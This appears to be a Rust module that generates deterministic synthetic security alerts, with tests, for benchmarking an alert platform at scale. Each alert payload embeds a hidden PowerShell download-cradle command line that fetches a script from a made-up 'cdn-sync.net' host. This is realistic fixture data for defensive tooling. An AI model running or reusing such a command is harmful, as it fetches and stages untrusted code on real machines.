//! The alerts `calseta bench --scale` stores: alert `n` of `total`, the same every run. They
//! arrive over the year before the run in time order (as alerts do), with varied severity,
//! status, source, detection rule, enrichment state and tags, a realistic payload, and two to
//! four indicators: one or two from a small pool every alert draws on (the scanner, the C2
//! domain, the dropper's hash — shared by hundreds of alerts at 10,000 and by tens of thousands
//! at a million, which is what past-alerts lookups must cope with) and one or two from a pool
//! that grows with the alerts (hosts and accounts a few dozen alerts share).

use calseta_core::alerts::{AlertStatus, CloseClassification, EnrichmentStatus, Malice, Severity};
use calseta_core::indicators::IndicatorType;
use calseta_store::bulk::{BulkAlert, BulkIndicator};
use chrono::{DateTime, Duration, Utc};
use serde_json::json;

/// Indicators every alert may draw on.
pub(crate) const SHARED_POOL: u64 = 64;
/// Detection rules per source.
pub(crate) const RULES_PER_SOURCE: usize = 10;
/// The sources, with how many alerts in 100 come from each.
pub(crate) const SOURCES: [(&str, u64); 4] =
    [("elastic", 35), ("splunk", 25), ("sentinel", 25), ("generic", 15)];
const SEVERITIES: [(Severity, u64); 5] = [
    (Severity::Informational, 10),
    (Severity::Low, 30),
    (Severity::Medium, 30),
    (Severity::High, 20),
    (Severity::Critical, 10),
];
const STATUSES: [(AlertStatus, u64); 4] = [
    (AlertStatus::Closed, 60),
    (AlertStatus::Open, 25),
    (AlertStatus::Triaging, 10),
    (AlertStatus::Escalated, 5),
];
const ENRICHMENT: [(EnrichmentStatus, u64); 3] =
    [(EnrichmentStatus::Enriched, 94), (EnrichmentStatus::Failed, 3), (EnrichmentStatus::Pending, 3)];
const TAGS: [&str; 7] = ["phishing", "vip", "prod", "cloud", "endpoint", "identity", "pci"];
const RULES: [&str; RULES_PER_SOURCE] = [
    "Suspicious PowerShell download cradle",
    "Impossible travel sign-in",
    "Brute force against a privileged account",
    "Outbound connection to a known C2 address",
    "Credential dumping via LSASS access",
    "Mailbox forwarding rule to an external domain",
    "Ransomware file extension burst",
    "New service installed by an unusual parent",
    "DNS tunnelling pattern",
    "Malware hash seen on an endpoint",
];

/// An indicator slot of an alert: which pool and which member.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Slot {
    Shared(u64),
    Rare(u64),
}

/// Alert `n` and the pieces that need the database's ids: its indicator slots and its detection
/// rule (the index into [`rule_refs`]).
pub(crate) struct Generated {
    pub(crate) alert: BulkAlert,
    pub(crate) slots: Vec<Slot>,
    pub(crate) rule: usize,
}

/// The alerts of one run: `total` of them, the last arriving at `end`.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Generator {
    start: DateTime<Utc>,
    spacing_ms: i64,
}

/// A well-mixed 64-bit hash of `n` (splitmix64): every field of an alert is drawn from it.
fn mix(n: u64) -> u64 {
    let mut z = n.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// The choice `draw` (uniform over 0..100) makes among weighted options.
fn pick<T: Copy>(options: &[(T, u64)], draw: u64) -> T {
    let mut left = draw % 100;
    for (option, weight) in options {
        if left < *weight {
            return *option;
        }
        left -= weight;
    }
    options[0].0
}

/// The `(source, rule reference)` of every detection rule, in index order.
pub(crate) fn rule_refs() -> Vec<(&'static str, String)> {
    SOURCES
        .iter()
        .flat_map(|(source, _)| RULES.iter().map(move |name| (*source, (*name).to_string())))
        .collect()
}

/// The public IPv4 address number `k` (first octet 23–99: never private, reserved or shared);
/// distinct for distinct `k` below 77 × 2²⁴.
fn public_ip(k: u64) -> String {
    format!("{}.{}.{}.{}", 23 + (k >> 24) % 77, (k >> 16) & 255, (k >> 8) & 255, k & 255)
}

/// Where the shared pool's addresses start, far from the growing pool's.
const SHARED_IPS: u64 = 64 << 24;

/// A hex digest-like string of `len` characters for `seed`.
fn hex(seed: u64, len: usize) -> String {
    let mut out = String::with_capacity(len + 16);
    let mut n = 0;
    while out.len() < len {
        out.push_str(&format!("{:016x}", mix(seed ^ n)));
        n += 1;
    }
    out.truncate(len);
    out
}

/// Member `k` of the shared pool: addresses, domains and hashes seen across many alerts.
pub(crate) fn shared_indicator(k: u64, seen_at: DateTime<Utc>) -> BulkIndicator {
    let (kind, value) = match k % 3 {
        0 => (IndicatorType::Ip, public_ip(SHARED_IPS + k)),
        1 => (IndicatorType::Domain, format!("update-{k}.cdn-sync.net")),
        _ => (IndicatorType::HashSha256, hex(k ^ 0xabcd, 64)),
    };
    let malice = [Malice::Malicious, Malice::Suspicious, Malice::Benign][(k % 3) as usize];
    let results = json!({"virustotal": {"success": true, "extracted": {"malicious_count": k % 40, "reputation": -(k as i64 % 50)}}});
    BulkIndicator { kind, value, malice, enrichment_results: Some(results), seen_at }
}

/// Member `k` of the growing pool: hosts' addresses, accounts, domains and hashes.
pub(crate) fn rare_indicator(k: u64, seen_at: DateTime<Utc>) -> BulkIndicator {
    let (kind, value) = match k % 4 {
        0 => (IndicatorType::Ip, public_ip(k)),
        1 => (IndicatorType::Email, format!("user{k}@acme-mail.com")),
        2 => (IndicatorType::Domain, format!("host{k}.acme-cloud.net")),
        _ => (IndicatorType::HashMd5, hex(k ^ 0x1234, 32)),
    };
    let results = json!({"abuseipdb": {"success": true, "extracted": {"score": k % 10}}});
    BulkIndicator { kind, value, malice: Malice::Benign, enrichment_results: Some(results), seen_at }
}

/// How many members the growing pool has once `n` alerts exist.
pub(crate) fn rare_pool(n: u64) -> u64 {
    500 + n / 25
}

impl Generator {
    /// `total` alerts spread over the year that ends at `end`.
    pub(crate) fn new(total: u64, end: DateTime<Utc>) -> Self {
        let year_ms: i64 = 365 * 24 * 3600 * 1000;
        let spacing_ms = year_ms / i64::try_from(total.max(1)).unwrap_or(i64::MAX);
        Generator { start: end - Duration::milliseconds(year_ms), spacing_ms }
    }

    /// When alert `n` was ingested.
    pub(crate) fn ingested_at(&self, n: u64) -> DateTime<Utc> {
        self.start
            + Duration::milliseconds(self.spacing_ms.saturating_mul(i64::try_from(n).unwrap_or(i64::MAX)))
    }

    /// Alert `n`.
    pub(crate) fn alert(&self, n: u64) -> Generated {
        let h = mix(n);
        let draw = |salt: u64| mix(h ^ salt);
        let ingested_at = self.ingested_at(n);
        // It occurred up to ten minutes before it arrived.
        let occurred_at = ingested_at - Duration::seconds(i64::try_from(draw(1) % 600).unwrap_or(0));
        let source_index = {
            let mut left = draw(2) % 100;
            let mut index = 0;
            for (i, (_, weight)) in SOURCES.iter().enumerate() {
                if left < *weight {
                    index = i;
                    break;
                }
                left -= weight;
            }
            index
        };
        let source = SOURCES[source_index].0;
        let rule_in_source = usize::try_from(draw(3) % RULES_PER_SOURCE as u64).unwrap_or(0);
        let rule = source_index * RULES_PER_SOURCE + rule_in_source;
        let severity = pick(&SEVERITIES, draw(4));
        let status = pick(&STATUSES, draw(5));
        let enrichment_status = pick(&ENRICHMENT, draw(6));
        let closed = status == AlertStatus::Closed;
        let closed_at = closed
            .then(|| ingested_at + Duration::minutes(60 + i64::try_from(draw(7) % (71 * 60)).unwrap_or(0)));
        let classification = closed.then(|| {
            CloseClassification::ALL[usize::try_from(draw(8)).unwrap_or(0) % CloseClassification::ALL.len()]
        });
        let tags: Vec<String> = (0..draw(9) % 3)
            .map(|i| TAGS[usize::try_from(draw(10 + i) % TAGS.len() as u64).unwrap_or(0)].to_string())
            .fold(Vec::new(), |mut tags, tag| {
                if !tags.contains(&tag) {
                    tags.push(tag);
                }
                tags
            });
        let mut slots = Vec::with_capacity(4);
        for i in 0..1 + draw(20) % 2 {
            slots.push(Slot::Shared(draw(21 + i) % SHARED_POOL));
        }
        for i in 0..1 + draw(30) % 2 {
            slots.push(Slot::Rare(draw(31 + i) % rare_pool(n)));
        }
        slots.dedup();
        let host = format!("WS-{:05}", draw(40) % 20_000);
        let user = format!("user{}", draw(41) % 5_000);
        let rule_name = RULES[rule_in_source];
        let title = format!("{rule_name} on {host}");
        let description = format!(
            "{rule_name}: {user} on {host} matched the rule's conditions ({source}, {}). Review the process tree and the network connections.",
            severity.as_str()
        );
        let payload = json!({
            "title": title, "severity": severity.as_str(), "occurred_at": occurred_at.to_rfc3339(),
            "source": source, "rule": {"name": rule_name, "id": format!("R-{rule:03}")},
            "host": {"name": host, "os": "Windows 11"}, "user": {"name": user, "domain": "ACME"},
            "process": {"name": "powershell.exe", "pid": draw(42) % 65_536,
                        "command_line": format!("powershell.exe -nop -w hidden -c iwr https://update-{}.cdn-sync.net/a.ps1", draw(43) % SHARED_POOL)},
            "network": {"src_ip": public_ip(draw(44)), "dst_port": 443},
            "tags": tags, "event_id": hex(draw(45), 24),
        });
        let alert = BulkAlert {
            title,
            description,
            severity,
            status,
            enrichment_status,
            close_classification: classification,
            source_name: source.to_string(),
            occurred_at,
            ingested_at,
            closed_at,
            fingerprint: hex(h ^ 0xf00d, 32),
            raw_payload: payload.to_string(),
            tags,
            detection_rule_id: None,
            indicator_ids: Vec::new(),
        };
        Generated { alert, slots, rule }
    }
}

/// The body of duplicate-seed `i`: a generic alert the benchmark ingests once over HTTP and then
/// sends again and again, each time taken as a duplicate of the first.
pub(crate) fn dedup_seed(i: u64) -> Vec<u8> {
    json!({"title": format!("Scale benchmark: repeated detection {i}"), "severity": "high",
           "src_ip": public_ip(SHARED_IPS + 1_000_000 + i), "description": "Sent again to measure deduplication."})
    .to_string()
    .into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    fn end() -> DateTime<Utc> {
        Utc.with_ymd_and_hms(2026, 12, 1, 0, 0, 0).unwrap()
    }

    #[test]
    fn alerts_are_the_same_every_run_and_arrive_in_time_order_over_the_year() {
        let generator = Generator::new(1_000_000, end());
        let (a, b) = (generator.alert(17), generator.alert(17));
        assert_eq!(
            (a.alert.title, a.alert.fingerprint, a.slots),
            (b.alert.title, b.alert.fingerprint, b.slots)
        );
        assert!(generator.ingested_at(0) < generator.ingested_at(1));
        let span = generator.ingested_at(999_999) - generator.ingested_at(0);
        assert!(span > Duration::days(364) && span <= Duration::days(365), "{span}");
        let last = generator.alert(999_999).alert;
        assert!(last.occurred_at <= last.ingested_at && last.ingested_at <= end());
    }

    #[test]
    fn fields_vary_as_weighted_and_closed_alerts_carry_a_close() {
        let generator = Generator::new(10_000, end());
        let alerts: Vec<Generated> = (0..10_000).map(|n| generator.alert(n)).collect();
        let share =
            |f: &dyn Fn(&BulkAlert) -> bool| alerts.iter().filter(|g| f(&g.alert)).count() as f64 / 10_000.0;
        assert!((share(&|a| a.status == AlertStatus::Closed) - 0.60).abs() < 0.03);
        assert!((share(&|a| a.severity == Severity::High) - 0.20).abs() < 0.03);
        assert!((share(&|a| a.source_name == "elastic") - 0.35).abs() < 0.03);
        assert!((share(&|a| a.enrichment_status == EnrichmentStatus::Enriched) - 0.94).abs() < 0.02);
        assert!(share(&|a| !a.tags.is_empty()) > 0.5);
        assert!(alerts.iter().all(|g| (g.alert.status == AlertStatus::Closed)
            == (g.alert.closed_at.is_some() && g.alert.close_classification.is_some())));
        let mut fingerprints: Vec<&str> = alerts.iter().map(|g| g.alert.fingerprint.as_str()).collect();
        fingerprints.sort_unstable();
        fingerprints.dedup();
        assert_eq!(fingerprints.len(), 10_000, "every generated alert is distinct");
        assert!(
            alerts.iter().all(|g| serde_json::from_str::<serde_json::Value>(&g.alert.raw_payload).is_ok())
        );
        assert!(
            alerts.iter().all(|g| g.rule < rule_refs().len() && rule_refs()[g.rule].0 == g.alert.source_name)
        );
    }

    #[test]
    fn each_alert_has_two_to_four_distinct_indicators_and_shared_ones_recur_hundreds_of_times() {
        let generator = Generator::new(10_000, end());
        let mut per_shared = vec![0u32; SHARED_POOL as usize];
        for n in 0..10_000 {
            let slots = generator.alert(n).slots;
            assert!((2..=4).contains(&slots.len()), "{slots:?}");
            let mut distinct = slots.clone();
            distinct.sort_by_key(|s| format!("{s:?}"));
            distinct.dedup();
            assert_eq!(distinct.len(), slots.len());
            for slot in slots {
                match slot {
                    Slot::Shared(k) => per_shared[k as usize] += 1,
                    Slot::Rare(k) => assert!(k < rare_pool(n)),
                }
            }
        }
        assert!(per_shared.iter().all(|count| *count >= 150), "{per_shared:?}");
    }

    #[test]
    fn indicators_are_enrichable_so_past_alerts_consider_them() {
        use calseta_core::enrichment::gate::skip_reason;
        for k in 0..2_000 {
            for indicator in
                [shared_indicator(k, end()), rare_indicator(k, end()), rare_indicator(k * 9_973, end())]
            {
                assert_eq!(skip_reason(indicator.kind, &indicator.value), None, "{}", indicator.value);
                assert_eq!(
                    calseta_core::indicators::normalize(indicator.kind, &indicator.value).as_deref(),
                    Ok(indicator.value.as_str())
                );
            }
        }
    }

    #[test]
    fn pool_members_are_distinct() {
        let mut values: Vec<String> = (0..SHARED_POOL)
            .map(|k| shared_indicator(k, end()).value)
            .chain((0..100_000).map(|k| rare_indicator(k, end()).value))
            .collect();
        let count = values.len();
        values.sort_unstable();
        values.dedup();
        assert_eq!(values.len(), count);
        assert_eq!(public_ip(0), "23.0.0.0");
        assert_eq!(public_ip(SHARED_IPS + 3), "87.0.0.3");
    }

    #[test]
    fn dedup_seeds_are_distinct_generic_alerts() {
        let a: serde_json::Value = serde_json::from_slice(&dedup_seed(1)).unwrap();
        let b: serde_json::Value = serde_json::from_slice(&dedup_seed(2)).unwrap();
        assert_ne!(a["title"], b["title"]);
        assert_eq!(a["severity"], "high");
    }
}
